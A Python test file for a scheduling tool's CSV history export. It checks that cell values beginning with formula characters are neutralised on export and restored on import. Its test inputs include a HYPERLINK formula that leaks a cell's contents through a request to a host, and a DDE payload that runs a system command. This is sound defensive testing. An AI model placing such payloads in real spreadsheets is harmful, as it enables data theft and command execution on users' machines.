from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cronstudio.exchange.history_table import COLUMNS, csv_header, csv_lines, read_csv
from cronstudio.model.run import Run
from cronstudio.model.words import RunState, Trigger

NOW = datetime(2026, 12, 1, tzinfo=UTC)
RUN = Run(
    id="run_1",
    job_id="job_12345678",
    job_name="x",
    trigger=Trigger.MANUAL,
    state=RunState.WAITING,
    created_at=NOW,
)
HYPERLINK = '=HYPERLINK("http://127.0.0.1/?"&A1)'


@pytest.mark.parametrize("name", [HYPERLINK, "+cmd|' /C calc'!A0", "-1", "@x", "'=1", "''+", "'x"])
def test_formulas_are_neutralised_and_come_back_as_they_were(name: str) -> None:
    text = csv_header() + csv_lines([replace(RUN, job_name=name)])
    (row,) = read_csv(text)
    assert row["job"] == name
    assert f",{name[0]}" not in text.splitlines()[1] or name[0] == "'"


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_every_name_comes_back_from_a_table(name: str) -> None:
    (row,) = read_csv(csv_header() + csv_lines([replace(RUN, job_name=name)]))
    assert (row["job"], row["run_id"], set(row)) == (name, "run_1", set(COLUMNS))


def test_another_table_is_not_taken_for_a_history() -> None:
    with pytest.raises(ValueError, match="columns"):
        read_csv("a,b\r\n1,2\r\n")
